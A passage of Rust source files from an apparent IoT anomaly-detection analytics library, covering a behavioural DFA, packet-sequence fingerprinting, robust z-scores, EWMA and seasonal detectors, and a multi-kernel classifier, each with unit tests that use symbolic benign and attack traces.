    prop::collection::vec(prop::collection::vec(97u8..100, 0..6), 1..12)
}

fn ac_haystack() -> impl Strategy<Value = Vec<u8>> {
    prop::collection::vec(97u8..100, 0..64)
}

proptest! {
    /// The automaton's first-match-per-pattern answer equals the naive
    /// per-pattern window scan for arbitrary (overlapping, duplicated,
    /// empty) patterns and haystacks.
    #[test]
    fn automaton_first_matches_equal_naive(patterns in ac_patterns(),
                                           haystack in ac_haystack()) {
        let ac = AcAutomaton::build(&patterns);
        prop_assert_eq!(
            ac.find_first_per_pattern(&haystack),
            naive_first_per_pattern(&patterns, &haystack)
        );
    }

    /// `find_all` reports exactly the occurrences a brute-force scan
    /// finds: every occurrence of every non-empty pattern, overlaps
    /// included.
    #[test]
    fn automaton_find_all_is_exhaustive(patterns in ac_patterns(),
                                        haystack in ac_haystack()) {
        let ac = AcAutomaton::build(&patterns);
        let mut got: Vec<(usize, usize)> =
            ac.find_all(&haystack).iter().map(|m| (m.pattern, m.start)).collect();
        got.sort_unstable();
        let mut expected = Vec::new();
        for (id, p) in patterns.iter().enumerate() {
            if p.is_empty() || p.len() > haystack.len() {
                continue;
            }
            for (start, w) in haystack.windows(p.len()).enumerate() {
                if w == p.as_slice() {
                    expected.push((id, start));
                }
            }
        }
        expected.sort_unstable();
        prop_assert_eq!(got, expected);
    }
}
