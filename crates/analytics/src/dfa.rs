//! Behavioural DFA learning (§IV-B3): "the state transitions are dictated
//! by the automation programs installed in the service cloud. Therefore, a
//! Deterministic Finite Automation (DFA) could be used to reflect normal
//! device behaviors."
//!
//! The DFA is learned from benign traces of `(state, symbol) → state`
//! observations; at monitoring time, transitions never seen in training
//! (or seen too rarely) raise an anomaly.

use std::collections::BTreeMap;

/// Verdict on one observed transition.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DfaVerdict {
    /// Transition seen in training with adequate support.
    Normal,
    /// Source state known, but this (state, symbol) pair never trained.
    UnknownTransition {
        /// The offending state.
        state: String,
        /// The offending symbol.
        symbol: String,
    },
    /// The state itself never appeared in training.
    UnknownState {
        /// The unseen state.
        state: String,
    },
}

impl DfaVerdict {
    /// Whether the verdict is anomalous.
    pub fn is_anomalous(&self) -> bool {
        !matches!(self, DfaVerdict::Normal)
    }
}

/// A learned deterministic automaton with transition counts.
#[derive(Debug, Clone, Default)]
pub struct Dfa {
    /// (state, symbol) → (next state, observation count).
    transitions: BTreeMap<(String, String), (String, u64)>,
    states: BTreeMap<String, u64>,
    /// Minimum observations for a transition to count as trained.
    pub min_support: u64,
}

impl Dfa {
    /// Creates an empty automaton (min support 1).
    pub fn new() -> Self {
        Dfa {
            transitions: BTreeMap::new(),
            states: BTreeMap::new(),
            min_support: 1,
        }
    }

    /// Learns from a benign trace of `(state, symbol, next_state)`.
    pub fn train(&mut self, trace: &[(String, String, String)]) {
        for (state, symbol, next) in trace {
            *self.states.entry(state.clone()).or_insert(0) += 1;
            self.states.entry(next.clone()).or_insert(0);
            let entry = self
                .transitions
                .entry((state.clone(), symbol.clone()))
                .or_insert_with(|| (next.clone(), 0));
            entry.1 += 1;
            // Determinism: if training shows a conflicting successor, keep
            // the majority one by resetting when outvoted.
            if &entry.0 != next && entry.1 < 2 {
                entry.0 = next.clone();
            }
        }
    }

    /// Convenience: trains from a sequence of `(symbol, state)` pairs,
    /// treating consecutive states as transitions.
    pub fn train_sequence(&mut self, initial: &str, steps: &[(String, String)]) {
        let mut state = initial.to_string();
        let mut trace = Vec::new();
        for (symbol, next) in steps {
            trace.push((state.clone(), symbol.clone(), next.clone()));
            state = next.clone();
        }
        self.train(&trace);
    }

    /// Checks one observed transition.
    pub fn check(&self, state: &str, symbol: &str, next: &str) -> DfaVerdict {
        if !self.states.contains_key(state) {
            return DfaVerdict::UnknownState {
                state: state.to_string(),
            };
        }
        match self
            .transitions
            .get(&(state.to_string(), symbol.to_string()))
        {
            Some((expected, count)) if *count >= self.min_support && expected == next => {
                DfaVerdict::Normal
            }
            _ => DfaVerdict::UnknownTransition {
                state: state.to_string(),
                symbol: symbol.to_string(),
            },
        }
    }

    /// Scores a whole trace: fraction of anomalous transitions.
    pub fn anomaly_rate(&self, trace: &[(String, String, String)]) -> f64 {
        if trace.is_empty() {
            return 0.0;
        }
        let anomalous = trace
            .iter()
            .filter(|(s, sym, n)| self.check(s, sym, n).is_anomalous())
            .count();
        anomalous as f64 / trace.len() as f64
    }

    /// Number of distinct learned states.
    pub fn state_count(&self) -> usize {
        self.states.len()
    }

    /// Number of distinct learned transitions.
    pub fn transition_count(&self) -> usize {
        self.transitions.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn t(s: &str, sym: &str, n: &str) -> (String, String, String) {
        (s.to_string(), sym.to_string(), n.to_string())
    }

    fn benign_trace() -> Vec<(String, String, String)> {
        // idle --on--> active --stream--> streaming --idle--> idle
        let mut trace = Vec::new();
        for _ in 0..10 {
            trace.push(t("idle", "cmd:on", "active"));
            trace.push(t("active", "cmd:stream", "streaming"));
            trace.push(t("streaming", "cmd:idle", "idle"));
        }
        trace
    }

    #[test]
    fn trained_transitions_are_normal() {
        let mut dfa = Dfa::new();
        dfa.train(&benign_trace());
        assert_eq!(dfa.check("idle", "cmd:on", "active"), DfaVerdict::Normal);
        assert_eq!(dfa.state_count(), 3);
        assert_eq!(dfa.transition_count(), 3);
    }

    #[test]
    fn unseen_transitions_are_flagged() {
        let mut dfa = Dfa::new();
        dfa.train(&benign_trace());
        // A compromised device jumping straight to streaming at 3 AM.
        let verdict = dfa.check("idle", "cmd:stream", "streaming");
        assert!(verdict.is_anomalous());
        assert!(matches!(verdict, DfaVerdict::UnknownTransition { .. }));
    }

    #[test]
    fn unknown_states_are_flagged() {
        let mut dfa = Dfa::new();
        dfa.train(&benign_trace());
        let verdict = dfa.check("compromised", "cmd:ddos", "flooding");
        assert!(matches!(verdict, DfaVerdict::UnknownState { .. }));
    }

    #[test]
    fn anomaly_rate_separates_benign_from_attack_traces() {
        let mut dfa = Dfa::new();
        dfa.train(&benign_trace());
        assert_eq!(dfa.anomaly_rate(&benign_trace()), 0.0);
        let attack = vec![
            t("idle", "cmd:on", "active"),
            t("active", "exploit", "compromised"),
            t("compromised", "cnc", "flooding"),
        ];
        assert!(dfa.anomaly_rate(&attack) > 0.6);
    }

    #[test]
    fn min_support_filters_one_off_noise() {
        let mut dfa = Dfa::new();
        dfa.train(&benign_trace());
        dfa.train(&[t("idle", "glitch", "active")]); // a single glitch
        dfa.min_support = 3;
        assert!(dfa.check("idle", "glitch", "active").is_anomalous());
        assert_eq!(dfa.check("idle", "cmd:on", "active"), DfaVerdict::Normal);
    }

    #[test]
    fn train_sequence_builds_the_chain() {
        let mut dfa = Dfa::new();
        dfa.train_sequence(
            "off",
            &[
                ("power".to_string(), "idle".to_string()),
                ("cmd:on".to_string(), "active".to_string()),
            ],
        );
        assert_eq!(dfa.check("off", "power", "idle"), DfaVerdict::Normal);
        assert_eq!(dfa.check("idle", "cmd:on", "active"), DfaVerdict::Normal);
    }
}
