//! Packet-sequence fingerprinting (§IV-B1): the HoMonit technique — "the
//! fingerprint of an event is defined by a cluster of packet sequences
//! that are similar with each other … the similarities of the sequences
//! are measured with Levenshtein Distance."
//!
//! Sequences are vectors of observable packet sizes (direction can be
//! folded in by signing the size). The classifier is nearest-centroid
//! over labeled training sequences with a normalized edit distance.

/// Levenshtein distance between two sequences, with a tolerance when
/// comparing elements (packet sizes within `slack` count as equal —
/// radios retransmit and pad).
pub fn levenshtein(a: &[i64], b: &[i64], slack: i64) -> usize {
    let eq = |x: i64, y: i64| (x - y).abs() <= slack;
    let (n, m) = (a.len(), b.len());
    if n == 0 {
        return m;
    }
    if m == 0 {
        return n;
    }
    let mut prev: Vec<usize> = (0..=m).collect();
    let mut curr = vec![0usize; m + 1];
    for i in 1..=n {
        curr[0] = i;
        for j in 1..=m {
            let cost = if eq(a[i - 1], b[j - 1]) { 0 } else { 1 };
            curr[j] = (prev[j] + 1).min(curr[j - 1] + 1).min(prev[j - 1] + cost);
        }
        std::mem::swap(&mut prev, &mut curr);
    }
    prev[m]
}

/// Normalized distance in `[0, 1]`.
pub fn normalized_distance(a: &[i64], b: &[i64], slack: i64) -> f64 {
    let max_len = a.len().max(b.len());
    if max_len == 0 {
        return 0.0;
    }
    levenshtein(a, b, slack) as f64 / max_len as f64
}

/// A labeled sequence classifier (nearest neighbour over edit distance).
#[derive(Debug, Clone, Default)]
pub struct SequenceClassifier {
    /// (label, training sequence).
    exemplars: Vec<(String, Vec<i64>)>,
    /// Size slack passed to the distance.
    pub slack: i64,
    /// Maximum normalized distance for a confident match.
    pub max_distance: f64,
}

impl SequenceClassifier {
    /// Creates an empty classifier with defaults (slack 8 bytes, max
    /// distance 0.35 — HoMonit-flavoured).
    pub fn new() -> Self {
        SequenceClassifier {
            exemplars: Vec::new(),
            slack: 8,
            max_distance: 0.35,
        }
    }

    /// Adds a labeled training sequence.
    pub fn train(&mut self, label: &str, sequence: Vec<i64>) {
        self.exemplars.push((label.to_string(), sequence));
    }

    /// Classifies a sequence: the nearest exemplar's label, or `None`
    /// when nothing is within `max_distance`.
    pub fn classify(&self, sequence: &[i64]) -> Option<(&str, f64)> {
        let best = self
            .exemplars
            .iter()
            .map(|(label, ex)| {
                (
                    label.as_str(),
                    normalized_distance(ex, sequence, self.slack),
                )
            })
            .min_by(|a, b| a.1.partial_cmp(&b.1).unwrap_or(std::cmp::Ordering::Equal))?;
        if best.1 <= self.max_distance {
            Some(best)
        } else {
            None
        }
    }

    /// Number of stored exemplars.
    pub fn len(&self) -> usize {
        self.exemplars.len()
    }

    /// True when untrained.
    pub fn is_empty(&self) -> bool {
        self.exemplars.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn textbook_distances() {
        assert_eq!(levenshtein(&[1, 2, 3], &[1, 2, 3], 0), 0);
        assert_eq!(levenshtein(&[1, 2, 3], &[1, 3], 0), 1);
        assert_eq!(levenshtein(&[], &[5, 5], 0), 2);
        assert_eq!(levenshtein(&[1, 2], &[3, 4], 0), 2);
    }

    #[test]
    fn slack_tolerates_padding_jitter() {
        assert_eq!(levenshtein(&[100, 200], &[104, 196], 8), 0);
        assert_eq!(levenshtein(&[100, 200], &[120, 200], 8), 1);
    }

    #[test]
    fn classifier_identifies_device_events() {
        let mut clf = SequenceClassifier::new();
        // Lock event: short handshake then two medium packets.
        clf.train("lock:unlock", vec![60, 60, 140, 140]);
        // Camera motion clip: long burst of large packets.
        clf.train("cam:motion", vec![60, 900, 900, 900, 900, 300]);

        let observed = vec![62, 58, 138, 144];
        let (label, d) = clf.classify(&observed).unwrap();
        assert_eq!(label, "lock:unlock");
        assert!(d < 0.2);

        let burst = vec![60, 902, 897, 905, 899, 295];
        assert_eq!(clf.classify(&burst).unwrap().0, "cam:motion");
    }

    #[test]
    fn unknown_sequences_return_none() {
        let mut clf = SequenceClassifier::new();
        clf.train("lock:unlock", vec![60, 60, 140, 140]);
        let alien = vec![500, 1, 999, 2, 777, 3, 555, 4];
        assert!(clf.classify(&alien).is_none());
    }

    #[test]
    fn empty_classifier_returns_none() {
        let clf = SequenceClassifier::new();
        assert!(clf.classify(&[1, 2, 3]).is_none());
        assert!(clf.is_empty());
    }

    #[test]
    fn normalized_distance_bounds() {
        assert_eq!(normalized_distance(&[], &[], 0), 0.0);
        assert_eq!(normalized_distance(&[1], &[9], 0), 1.0);
        let d = normalized_distance(&[1, 2, 3, 4], &[1, 2, 3, 9], 0);
        assert!((d - 0.25).abs() < 1e-12);
    }
}
