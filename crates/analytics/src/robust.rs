//! Robust z-scoring against merged fleet-wide location/scale estimates.
//!
//! The hierarchical fleet tier scores every home against *global*
//! per-feature median/MAD statistics (merged exactly from the region
//! accumulators) instead of building a fleet-wide similarity graph —
//! the graph pass is reserved for the forwarded candidate subset. The
//! score is the classic robust z: the worst per-dimension deviation in
//! MAD-normalized units,
//!
//! ```text
//! z(x) = max_d |x_d − median_d| / (1.4826 · mad_d)
//! ```
//!
//! with a scale fallback of `max(|median_d|, 1)` when the MAD is ~0
//! (a dimension the whole fleet agrees on: any departure from the
//! consensus is measured against the consensus magnitude itself).
//! Non-finite inputs are treated as 0 (matching the fleet feature
//! sanitizer), so a poisoned home can never produce a NaN score that
//! escapes threshold comparisons.

/// Consistency constant mapping MAD to the standard deviation of a
/// normal distribution (1 / Φ⁻¹(3/4)).
pub const MAD_SIGMA: f64 = 1.4826;

/// The per-dimension robust scale: `MAD_SIGMA · mad`, falling back to
/// `max(|median|, 1)` when the MAD is (numerically) zero.
pub fn robust_scale(median: f64, mad: f64) -> f64 {
    let s = MAD_SIGMA * mad;
    if s > 1e-12 {
        s
    } else {
        median.abs().max(1.0)
    }
}

/// The robust z-score of a feature vector against per-dimension
/// median/MAD estimates: the worst per-dimension deviation in
/// MAD-normalized units. Dimensions beyond the shorter of the three
/// slices are ignored; non-finite components count as 0.
pub fn robust_z(x: &[f64], medians: &[f64], mads: &[f64]) -> f64 {
    let dims = x.len().min(medians.len()).min(mads.len());
    let mut worst = 0.0f64;
    for d in 0..dims {
        let v = if x[d].is_finite() { x[d] } else { 0.0 };
        let z = (v - medians[d]).abs() / robust_scale(medians[d], mads[d]);
        if z > worst {
            worst = z;
        }
    }
    worst
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn z_is_zero_at_the_median() {
        assert_eq!(robust_z(&[3.0, 5.0], &[3.0, 5.0], &[1.0, 2.0]), 0.0);
    }

    #[test]
    fn z_is_the_worst_dimension() {
        // dim0: |10-3|/1.4826 ≈ 4.72; dim1: |6-5|/(2·1.4826) ≈ 0.34.
        let z = robust_z(&[10.0, 6.0], &[3.0, 5.0], &[1.0, 2.0]);
        assert!((z - 7.0 / MAD_SIGMA).abs() < 1e-12, "z = {z}");
    }

    #[test]
    fn zero_mad_falls_back_to_median_magnitude() {
        // Consensus dimension at 100.0: a home at 150.0 scores 0.5.
        let z = robust_z(&[150.0], &[100.0], &[0.0]);
        assert!((z - 0.5).abs() < 1e-12, "z = {z}");
        // Consensus at 0 with zero MAD: unit scale.
        let z = robust_z(&[3.0], &[0.0], &[0.0]);
        assert!((z - 3.0).abs() < 1e-12, "z = {z}");
    }

    #[test]
    fn non_finite_components_count_as_zero() {
        let z = robust_z(&[f64::NAN, f64::INFINITY], &[1.0, 2.0], &[1.0, 1.0]);
        assert!(z.is_finite());
        // NaN→0 gives |0-1|/1.4826; inf→0 gives |0-2|/1.4826 → worst.
        assert!((z - 2.0 / MAD_SIGMA).abs() < 1e-12, "z = {z}");
    }

    proptest! {
        /// The score is always finite and non-negative, whatever the
        /// inputs — the no-NaN-escape guarantee the fleet tier needs.
        #[test]
        fn z_is_always_finite_and_non_negative(
            x in proptest::collection::vec(
                // Adversarial feature values, non-finite ones included.
                proptest::sample::select(vec![
                    0.0, -0.0, 1.5, -3.25, 1e300, -1e300, f64::MIN_POSITIVE,
                    f64::NAN, f64::INFINITY, f64::NEG_INFINITY,
                ]),
                0..6,
            ),
            med in proptest::collection::vec(-1e9f64..1e9, 0..6),
            mad in proptest::collection::vec(0.0f64..1e9, 0..6),
        ) {
            let z = robust_z(&x, &med, &mad);
            prop_assert!(z.is_finite());
            prop_assert!(z >= 0.0);
        }

        /// Scaling a dimension's deviation scales its z linearly (when
        /// that dimension dominates) — sanity that the normalization is
        /// actually per-dimension.
        #[test]
        fn z_scales_with_deviation(dev in 1.0f64..1e6, mad in 0.5f64..100.0) {
            let z1 = robust_z(&[dev], &[0.0], &[mad]);
            let z2 = robust_z(&[2.0 * dev], &[0.0], &[mad]);
            prop_assert!((z2 - 2.0 * z1).abs() < 1e-6 * z2.max(1.0));
        }
    }
}
