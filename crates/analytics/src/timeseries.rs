//! Time-series anomaly detectors for the data-analytics mechanisms
//! (§IV-C2 "time series modeling", §IV-C3 "whether there has been a spike
//! in CPU on the sensor or irregular amounts of keep-alive packets").

/// Exponentially-weighted moving average detector: alarms when a sample
/// deviates from the running mean by more than `threshold` running
/// standard deviations.
#[derive(Debug, Clone)]
pub struct EwmaDetector {
    alpha: f64,
    mean: f64,
    var: f64,
    samples: u64,
    /// Z-score threshold for alarms.
    pub threshold: f64,
    /// Samples to absorb before alarming (warm-up).
    pub warmup: u64,
}

impl EwmaDetector {
    /// Creates a detector with smoothing factor `alpha` (0 < α ≤ 1) and a
    /// z-score `threshold`.
    ///
    /// # Panics
    ///
    /// Panics if `alpha` is outside `(0, 1]`.
    pub fn new(alpha: f64, threshold: f64) -> Self {
        assert!(alpha > 0.0 && alpha <= 1.0, "alpha must be in (0,1]");
        EwmaDetector {
            alpha,
            mean: 0.0,
            var: 0.0,
            samples: 0,
            threshold,
            warmup: 10,
        }
    }

    /// Feeds a sample; returns `true` when it is anomalous.
    pub fn observe(&mut self, value: f64) -> bool {
        self.samples += 1;
        if self.samples == 1 {
            self.mean = value;
            self.var = 0.0;
            return false;
        }
        let sd = self.var.sqrt();
        let deviation = (value - self.mean).abs();
        let anomalous = self.samples > self.warmup
            && if sd > 1e-12 {
                deviation / sd > self.threshold
            } else {
                // Perfectly flat baseline: any substantial relative jump is
                // anomalous (a zero-variance signal has no honest spikes).
                deviation > self.mean.abs().max(1.0) * 0.5
            };
        // Update statistics only with non-anomalous samples so an attack
        // cannot slowly poison the baseline.
        if !anomalous {
            let delta = value - self.mean;
            self.mean += self.alpha * delta;
            self.var = (1.0 - self.alpha) * (self.var + self.alpha * delta * delta);
        }
        anomalous
    }

    /// Current running mean.
    pub fn mean(&self) -> f64 {
        self.mean
    }
}

/// Seasonal (Holt-Winters-flavoured) detector for periodic signals such as
/// daily temperature cycles: keeps per-phase running statistics (mean and
/// variance, Welford) and alarms when a sample deviates from its phase
/// baseline by more than `max(tolerance_floor, 4σ_phase)` — the adaptive
/// band absorbs honest within-phase spread while the floor keeps
/// zero-variance phases from alarming on noise.
#[derive(Debug, Clone)]
pub struct SeasonalDetector {
    period: usize,
    /// Per-phase (count, mean, m2).
    stats: Vec<(u64, f64, f64)>,
    /// Minimum absolute deviation that can raise an alarm.
    pub tolerance: f64,
    /// Sigma multiplier for the adaptive band.
    pub sigma_band: f64,
    cursor: usize,
    /// Completed periods before alarms arm.
    pub warmup_periods: u64,
    seen_periods: u64,
}

impl SeasonalDetector {
    /// Creates a detector with `period` phases and an absolute deviation
    /// floor `tolerance`.
    ///
    /// # Panics
    ///
    /// Panics if `period` is zero.
    pub fn new(period: usize, tolerance: f64) -> Self {
        assert!(period > 0, "period must be positive");
        SeasonalDetector {
            period,
            stats: vec![(0, 0.0, 0.0); period],
            tolerance,
            sigma_band: 4.0,
            cursor: 0,
            warmup_periods: 2,
            seen_periods: 0,
        }
    }

    /// Feeds a sample at an explicit phase (e.g. hour of day); returns
    /// `true` when it deviates beyond the adaptive band.
    pub fn observe_phase(&mut self, phase: usize, value: f64) -> bool {
        let phase = phase % self.period;
        let (count, mean, m2) = self.stats[phase];
        let armed = self.seen_periods >= self.warmup_periods && count > 1;
        let sigma = if count > 1 {
            (m2 / (count - 1) as f64).sqrt()
        } else {
            0.0
        };
        let band = self.tolerance.max(self.sigma_band * sigma);
        let anomalous = armed && (value - mean).abs() > band;
        if !anomalous {
            // Welford update with honest samples only.
            let count = count + 1;
            let delta = value - mean;
            let mean = mean + delta / count as f64;
            let m2 = m2 + delta * (value - mean);
            self.stats[phase] = (count, mean, m2);
        }
        anomalous
    }

    /// Feeds the next sample with cyclically advancing phases (for
    /// streams sampled exactly once per phase).
    pub fn observe(&mut self, value: f64) -> bool {
        let phase = self.cursor;
        self.cursor = (self.cursor + 1) % self.period;
        if self.cursor == 0 {
            self.seen_periods += 1;
        }
        self.observe_phase(phase, value)
    }

    /// Marks a full period as elapsed (for explicit-phase callers that do
    /// not use [`SeasonalDetector::observe`]'s cursor).
    pub fn complete_period(&mut self) {
        self.seen_periods += 1;
    }

    /// Number of completed periods observed so far.
    pub fn completed_periods(&self) -> u64 {
        self.seen_periods
    }

    /// The learned baseline mean for a phase.
    pub fn baseline(&self, phase: usize) -> f64 {
        self.stats[phase % self.period].1
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ewma_learns_a_flat_signal_and_flags_spikes() {
        let mut d = EwmaDetector::new(0.2, 4.0);
        for i in 0..100 {
            let noise = ((i * 37) % 7) as f64 * 0.1;
            assert!(!d.observe(50.0 + noise), "false alarm at {i}");
        }
        assert!(d.observe(500.0), "missed an obvious spike");
        assert!((d.mean() - 50.0).abs() < 2.0);
    }

    #[test]
    fn ewma_baseline_not_poisoned_by_anomalies() {
        let mut d = EwmaDetector::new(0.2, 4.0);
        for _ in 0..50 {
            d.observe(10.0);
        }
        for _ in 0..5 {
            d.observe(1000.0); // attack spikes
        }
        // Mean must remain near 10, not dragged toward 1000.
        assert!(d.mean() < 20.0, "mean = {}", d.mean());
    }

    #[test]
    fn ewma_warmup_suppresses_early_alarms() {
        let mut d = EwmaDetector::new(0.5, 1.0);
        d.warmup = 5;
        // Wildly varying early samples must not alarm during warm-up.
        for v in [1.0, 100.0, 3.0, 80.0] {
            assert!(!d.observe(v));
        }
    }

    #[test]
    fn seasonal_learns_a_cycle_and_flags_phase_deviations() {
        let mut d = SeasonalDetector::new(24, 5.0);
        // Two warm-up days + two monitored days of a clean diurnal cycle.
        let temp = |h: usize| 70.0 + 8.0 * ((h as f64) * std::f64::consts::TAU / 24.0).sin();
        for _day in 0..4 {
            for h in 0..24 {
                assert!(!d.observe(temp(h)), "false alarm at hour {h}");
            }
        }
        // The §IV-C3 heater attack: +15°F at 3 AM.
        for h in 0..24 {
            let value = if h == 3 { temp(h) + 15.0 } else { temp(h) };
            let alarm = d.observe(value);
            assert_eq!(alarm, h == 3, "hour {h}");
        }
    }

    #[test]
    fn seasonal_baseline_accessor() {
        let mut d = SeasonalDetector::new(4, 1.0);
        for _ in 0..3 {
            for v in [10.0, 20.0, 30.0, 40.0] {
                d.observe(v);
            }
        }
        assert!((d.baseline(1) - 20.0).abs() < 1e-9);
        assert!((d.baseline(5) - 20.0).abs() < 1e-9); // wraps
    }

    #[test]
    #[should_panic(expected = "alpha")]
    fn bad_alpha_panics() {
        EwmaDetector::new(0.0, 3.0);
    }

    #[test]
    #[should_panic(expected = "period")]
    fn zero_period_panics() {
        SeasonalDetector::new(0, 1.0);
    }
}
