//! Multi-kernel learning (§IV-D): "a technically sound way to combine
//! features from heterogeneous sources" where "the feature combination and
//! the classifier training could be done simultaneously".
//!
//! Implementation: per-source kernels are weighted by centered-kernel
//! alignment with the training labels (the feature-combination step), and
//! a kernel perceptron is trained on the combined Gram matrix (the
//! classifier step). Both happen in one [`MklClassifier::train`] call,
//! matching the paper's "simultaneously" claim at the API level.

use crate::kernel::{alignment, Kernel};

/// A view of the training data: one feature block per source.
///
/// Each source (device layer, network layer, service layer) contributes a
/// feature vector per sample; `sources[s][i]` is sample `i`'s features
/// from source `s`.
pub type SourceData = Vec<Vec<Vec<f64>>>;

/// A trained multi-kernel classifier.
#[derive(Debug, Clone)]
pub struct MklClassifier {
    kernels: Vec<Kernel>,
    /// Alignment-derived kernel weights (normalized).
    pub weights: Vec<f64>,
    /// Support coefficients from the kernel perceptron (α_i · y_i).
    alphas: Vec<f64>,
    /// Training samples (per source).
    support: SourceData,
    bias: f64,
}

impl MklClassifier {
    /// Trains on `sources` (one block per heterogeneous source) with ±1
    /// labels, using one kernel per source.
    ///
    /// # Panics
    ///
    /// Panics if block counts mismatch `kernels`, sample counts differ
    /// across sources, or labels are not ±1.
    pub fn train(
        kernels: Vec<Kernel>,
        sources: SourceData,
        labels: &[f64],
        epochs: usize,
    ) -> MklClassifier {
        assert_eq!(kernels.len(), sources.len(), "one kernel per source");
        let n = labels.len();
        for block in &sources {
            assert_eq!(block.len(), n, "every source must cover every sample");
        }
        assert!(
            labels.iter().all(|&y| y == 1.0 || y == -1.0),
            "labels must be ±1"
        );

        // Step 1: per-source Gram matrices and alignment weights.
        let grams: Vec<Vec<Vec<f64>>> = kernels
            .iter()
            .zip(&sources)
            .map(|(k, block)| k.gram(block))
            .collect();
        let mut weights: Vec<f64> = grams.iter().map(|g| alignment(g, labels)).collect();
        let total: f64 = weights.iter().sum();
        if total <= f64::EPSILON {
            let uniform = 1.0 / weights.len() as f64;
            weights.iter_mut().for_each(|w| *w = uniform);
        } else {
            weights.iter_mut().for_each(|w| *w /= total);
        }

        // Step 2: combined Gram matrix.
        let mut combined = vec![vec![0.0; n]; n];
        for (w, g) in weights.iter().zip(&grams) {
            for i in 0..n {
                for j in 0..n {
                    combined[i][j] += w * g[i][j];
                }
            }
        }

        // Step 3: kernel perceptron on the combined kernel.
        let mut alphas = vec![0.0f64; n];
        let mut bias = 0.0f64;
        for _ in 0..epochs {
            let mut mistakes = 0;
            for i in 0..n {
                let score: f64 = (0..n).map(|j| alphas[j] * combined[j][i]).sum::<f64>() + bias;
                if score * labels[i] <= 0.0 {
                    alphas[i] += labels[i];
                    bias += labels[i];
                    mistakes += 1;
                }
            }
            if mistakes == 0 {
                break;
            }
        }

        MklClassifier {
            kernels,
            weights,
            alphas,
            support: sources,
            bias,
        }
    }

    /// Decision value for a sample (one feature vector per source);
    /// positive means class +1.
    pub fn decision(&self, sample: &[Vec<f64>]) -> f64 {
        assert_eq!(sample.len(), self.kernels.len(), "one block per source");
        let n = self.alphas.len();
        let mut score = self.bias;
        for j in 0..n {
            if self.alphas[j] == 0.0 {
                continue;
            }
            let mut k = 0.0;
            for (s, kernel) in self.kernels.iter().enumerate() {
                k += self.weights[s] * kernel.eval(&self.support[s][j], &sample[s]);
            }
            score += self.alphas[j] * k;
        }
        score
    }

    /// Predicted label (±1).
    pub fn predict(&self, sample: &[Vec<f64>]) -> f64 {
        if self.decision(sample) > 0.0 {
            1.0
        } else {
            -1.0
        }
    }

    /// Accuracy over a labeled set.
    pub fn accuracy(&self, samples: &[Vec<Vec<f64>>], labels: &[f64]) -> f64 {
        let correct = samples
            .iter()
            .zip(labels)
            .filter(|(s, &y)| self.predict(s) == y)
            .count();
        correct as f64 / labels.len().max(1) as f64
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Two sources: source 0 is informative (separates the classes),
    /// source 1 is noise.
    fn dataset() -> (SourceData, Vec<f64>, Vec<Vec<Vec<f64>>>) {
        let mut informative = Vec::new();
        let mut noise = Vec::new();
        let mut labels = Vec::new();
        for i in 0..20 {
            let y = if i % 2 == 0 { 1.0 } else { -1.0 };
            let base = if y > 0.0 { 0.0 } else { 4.0 };
            informative.push(vec![base + (i as f64 % 3.0) * 0.1, base]);
            noise.push(vec![(i as f64 * 7.0) % 5.0, (i as f64 * 13.0) % 3.0]);
            labels.push(y);
        }
        let test: Vec<Vec<Vec<f64>>> = vec![
            vec![vec![0.05, 0.0], vec![2.0, 1.0]], // class +1
            vec![vec![4.05, 4.0], vec![1.0, 2.0]], // class -1
        ];
        (vec![informative, noise], labels, test)
    }

    #[test]
    fn informative_source_gets_higher_weight() {
        let (sources, labels, _) = dataset();
        let clf = MklClassifier::train(
            vec![Kernel::Rbf { gamma: 0.5 }, Kernel::Rbf { gamma: 0.5 }],
            sources,
            &labels,
            50,
        );
        assert!(
            clf.weights[0] > clf.weights[1],
            "weights: {:?}",
            clf.weights
        );
    }

    #[test]
    fn classifies_held_out_samples() {
        let (sources, labels, test) = dataset();
        let clf = MklClassifier::train(
            vec![Kernel::Rbf { gamma: 0.5 }, Kernel::Rbf { gamma: 0.5 }],
            sources,
            &labels,
            50,
        );
        assert_eq!(clf.predict(&test[0]), 1.0);
        assert_eq!(clf.predict(&test[1]), -1.0);
    }

    #[test]
    fn training_accuracy_is_high_on_separable_data() {
        let (sources, labels, _) = dataset();
        let samples: Vec<Vec<Vec<f64>>> = (0..labels.len())
            .map(|i| sources.iter().map(|block| block[i].clone()).collect())
            .collect();
        let clf = MklClassifier::train(
            vec![Kernel::Rbf { gamma: 0.5 }, Kernel::Rbf { gamma: 0.5 }],
            sources,
            &labels,
            50,
        );
        assert!(clf.accuracy(&samples, &labels) >= 0.95);
    }

    #[test]
    fn weights_are_normalized() {
        let (sources, labels, _) = dataset();
        let clf = MklClassifier::train(
            vec![Kernel::Linear, Kernel::Rbf { gamma: 1.0 }],
            sources,
            &labels,
            10,
        );
        assert!((clf.weights.iter().sum::<f64>() - 1.0).abs() < 1e-9);
    }

    #[test]
    #[should_panic(expected = "labels must be ±1")]
    fn bad_labels_panic() {
        MklClassifier::train(vec![Kernel::Linear], vec![vec![vec![1.0]]], &[0.5], 1);
    }
}
