//! Learning substrates for the XLF Core (§IV-D): the paper names
//! multi-kernel learning for heterogeneous-source fusion and graph-based
//! community learning explicitly; the layer mechanisms additionally need
//! behavioural DFAs (§IV-B3), time-series models (§IV-C2/C3), and
//! packet-sequence fingerprinting with Levenshtein distance (the HoMonit
//! technique of §IV-B1). All implemented from scratch — no external ML
//! dependencies.

#![forbid(unsafe_code)]
#![warn(missing_docs)]
#![cfg_attr(not(test), deny(clippy::unwrap_used, clippy::expect_used))]

pub mod dfa;
pub mod features;
pub mod fingerprint;
pub mod graph;
pub mod kernel;
pub mod mkl;
pub mod multipattern;
pub mod robust;
pub mod timeseries;

pub use dfa::{Dfa, DfaVerdict};
pub use features::{window_features, FeatureWindow};
pub use fingerprint::{levenshtein, SequenceClassifier};
pub use graph::{deviation_scores, label_propagation, similarity_graph};
pub use kernel::Kernel;
pub use mkl::MklClassifier;
pub use multipattern::{AcAutomaton, AcMatch};
pub use robust::{robust_scale, robust_z, MAD_SIGMA};
pub use timeseries::{EwmaDetector, SeasonalDetector};
