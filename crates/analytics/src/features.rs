//! Feature extraction from observed traffic: windows of packet metadata →
//! fixed-length feature vectors consumed by the MKL classifier and the
